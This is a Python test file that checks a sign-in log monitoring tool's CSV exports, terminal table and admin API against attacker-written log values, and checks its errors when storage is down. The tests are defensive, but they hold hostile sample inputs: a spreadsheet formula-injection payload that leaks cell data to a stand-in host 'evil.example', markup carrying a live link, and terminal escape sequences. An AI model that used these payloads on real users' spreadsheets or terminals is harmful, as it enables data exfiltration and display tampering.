"""What an attacker writes into the sign-in log, read back by the admin: CSV, terminal, the admin API.

Anyone can make failed sign-ins appear in a tenant's log with a user agent of their choice; names and
UPNs come from the directory. Each value below reached a spreadsheet as a formula, or rich as markup
(a crash, a live link) or the terminal as an escape sequence, before issue 16. Also here: what the
admin sees when the state tables are down (one line, an exit code, JSON errors with our headers).
"""

from __future__ import annotations

import asyncio
import csv
import io
import os
import subprocess
import sys
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path

import httpx
import pytest

from core.clock import utcnow
from devstack.asgi_server import AsgiServer
from devstack.azurite import Azurite
from devstack.simulator import SimServer
from pipeline.admin import admin_app
from pipeline.cycle import collect_and_evaluate_step, run_with_settings
from report.app import SECURITY_HEADERS
from sim.scenario import Scenario
from tests.conftest import sim_env, sim_settings
from tests.hostile import HostileGraph
from tests.scenarios import add_user, legacy_signins, tenant

StartSim = Callable[[Scenario], SimServer]
ROOT = Path(__file__).resolve().parent.parent
FORMULA_AGENT = '=HYPERLINK("http://evil.example/?leak="&A2,"Apple-iPhone")'
DEAD_TABLES = "DefaultEndpointsProtocol=http;AccountName=devstoreaccount1;AccountKey=a2V5;TableEndpoint=http://127.0.0.1:9/devstoreaccount1;"


def admin_env(tenant_id: str, tables: str) -> dict[str, str]:
    """A tenant whose state tables are ``tables``; no Graph and no mail are reached."""
    return {
        "LAM_TENANT_ID": tenant_id,
        "LAM_TABLES_CONNECTION_STRING": tables,
        "LAM_GRAPH_AUTH": "none",
        "LAM_GRAPH_BASE_URL": "http://127.0.0.1:9",
        "LAM_NOTIFY_MODE": "off",
    }


def cli(*args: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    clean = {k: v for k, v in os.environ.items() if not k.startswith("LAM_")}
    return subprocess.run(
        [sys.executable, "-m", "cli", *args],
        cwd=ROOT,
        env={**clean, **env, "COLUMNS": "400"},
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )


@pytest.fixture
def hostile_tenant(tenant_id: str, start_sim: StartSim, azurite: Azurite) -> dict[str, str]:
    now = utcnow()  # the CLI reads the real clock
    scenario = tenant(tenant_id)
    people = {
        "formula": add_user(scenario, "formula"),
        "plus": add_user(scenario, "plus"),
        "markup": add_user(scenario, "markup"),
        "escape": add_user(scenario, "escape"),
    }
    people["plus"]["displayName"] = "+1+2"
    people["markup"]["userPrincipalName"] = "[/]x[link=http://evil.example]click[/link]@contoso.example"
    people["escape"]["userPrincipalName"] = "esc\x1b]0;pwned\x07\x1b[2Jape@contoso.example"
    for name, person in people.items():
        agent = FORMULA_AGENT if name == "formula" else "@SUM(1+1)" if name == "plus" else "-2+3"
        legacy_signins(scenario, person, now - timedelta(hours=1), 2, ua=agent)
    scenario.sort()
    sim = start_sim(scenario)
    env = sim_env(sim, azurite, LAM_NOTIFY_MODE="off")
    asyncio.run(run_with_settings(sim_settings(sim, azurite, LAM_NOTIFY_MODE="off"), [collect_and_evaluate_step]))
    return env


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def test_no_csv_cell_starts_a_formula_in_either_export(hostile_tenant: dict[str, str]) -> None:
    from pipeline.settings import load_settings

    exported = cli("report", "--format", "csv", env=hostile_tenant)
    assert exported.returncode == 0, exported.stderr
    server = AsgiServer(admin_app(lambda: load_settings(hostile_tenant))).start()
    try:
        api = httpx.get(f"{server.url}/api/users", params={"format": "csv"}, timeout=30)
    finally:
        server.stop()
    for text in (exported.stdout, api.text):
        found = cells(text)
        assert "'" + FORMULA_AGENT in found and "'+1+2" in found and "'@SUM(1+1)" in found and "'-2+3" in found
        assert not [c for c in found if c[:1] in ("=", "+", "-", "@")], "a cell a spreadsheet would evaluate"


def upn_cells(table: str) -> list[str]:
    """The first column of a rich table, each cell's wrapped lines joined again (issue 18 wraps, never cuts)."""
    cells, current = [], ""
    for line in table.splitlines():
        if line.startswith("│"):
            current += line.split("│")[1].strip()
        elif current:
            cells.append(current)
            current = ""
    return cells


def test_the_terminal_table_shows_markup_and_escapes_as_text(hostile_tenant: dict[str, str]) -> None:
    """Before: `[/]x@…` crashed the table, `[link=…]` became a live link, ESC sequences went through."""
    table = cli("report", env=hostile_tenant)
    assert table.returncode == 0, table.stderr
    upns = upn_cells(table.stdout)
    assert "[/]x[link=http://evil.example]click[/link]@contoso.example" in upns
    assert "\x1b" not in table.stdout and "\x07" not in table.stdout
    assert "esc\ufffd]0;pwned\ufffd\ufffd[2Jape@contoso.example" in upns


def test_the_cli_says_in_one_line_that_storage_is_down(tenant_id: str) -> None:
    env = admin_env(tenant_id, DEAD_TABLES)
    for args in (("report",), ("run", "--once")):
        done = cli(*args, env=env)
        # exit 2 and the setting named (issue 18's one rule for everything the admin must fix)
        assert done.returncode == 2, (args, done.stderr)
        assert "Traceback" not in done.stderr
        assert done.stderr.strip().count("\n") == 0, done.stderr
        assert "state tables unreachable at" in done.stderr and "(LAM_TABLES_CONNECTION_STRING)" in done.stderr


def test_azurite_stopped_mid_run_gives_one_line_and_a_log_line_not_a_traceback(
    tenant_id: str, start_sim: StartSim, tmp_path: Path
) -> None:
    scenario = tenant(tenant_id)
    for n in range(3):
        legacy_signins(scenario, add_user(scenario, f"user{n}"), utcnow() - timedelta(minutes=5), 30)
    scenario.page_size = 10
    scenario.sort()
    sim = start_sim(scenario)
    storage = Azurite().start()

    def stop_storage(number: int, path: str) -> None:
        if number == 2:
            storage.stop()

    try:
        with HostileGraph(sim.url, stop_storage) as graph:
            env = {
                **sim_env(sim, storage),
                "LAM_GRAPH_BASE_URL": graph.url,
                "LAM_CHECKPOINT_PAGES": "1",
                "LAM_NOTIFY_MODE": "off",
            }
            done = cli("run", "--once", env=env)
    finally:
        storage.stop()
    assert done.returncode == 2, done.stderr  # the admin must fix something: storage
    assert "Traceback" not in done.stderr, done.stderr[-3000:]
    lines = done.stderr.strip().splitlines()
    assert any("could not be written, storage is unreachable" in line for line in lines), done.stderr
    assert lines[-1].startswith("step 'collect' failed:"), done.stderr


@pytest.mark.parametrize(
    ("path", "params", "status"),
    [
        ("users", {"limit": "²"}, 400),
        ("users", {"since": "0001-01-01T00:00:00+01:00"}, 400),
        ("users", {"since": "1500-01-01"}, 400),
        ("users", {"continuation": "A" * 5000}, 400),
        ("nowhere", {}, 404),
    ],
)
def test_admin_errors_are_json_with_every_security_header(
    tenant_id: str, azurite: Azurite, path: str, params: dict[str, str], status: int
) -> None:
    from pipeline.settings import load_settings

    settings = load_settings(admin_env(tenant_id, azurite.connection_string))
    server = AsgiServer(admin_app(lambda: settings)).start()
    try:
        answer = httpx.get(f"{server.url}/api/{path}", params=params, timeout=30)
        wrong_method = httpx.post(f"{server.url}/api/users", timeout=30)
    finally:
        server.stop()
    for response, code in ((answer, status), (wrong_method, 405)):
        assert response.status_code == code, response.text
        assert response.headers["content-type"] == "application/json"
        assert "error" in response.json()
        for name, value in SECURITY_HEADERS.items():
            assert response.headers[name] == value
    assert SECURITY_HEADERS["Strict-Transport-Security"].startswith("max-age=31536000")


def test_admin_api_with_storage_down_is_a_json_503_with_headers(tenant_id: str) -> None:
    from pipeline.settings import load_settings

    settings = load_settings(admin_env(tenant_id, DEAD_TABLES))
    server = AsgiServer(admin_app(lambda: settings)).start()
    try:
        answer = httpx.get(f"{server.url}/api/summary", timeout=120)
    finally:
        server.stop()
    # a 503 naming the setting since issue 18 (it was a bare 500)
    assert answer.status_code == 503
    assert answer.json()["error"] == "the state tables are unavailable"
    assert "(LAM_TABLES_CONNECTION_STRING)" in answer.json()["reason"]
    assert answer.headers["Strict-Transport-Security"] == SECURITY_HEADERS["Strict-Transport-Security"]
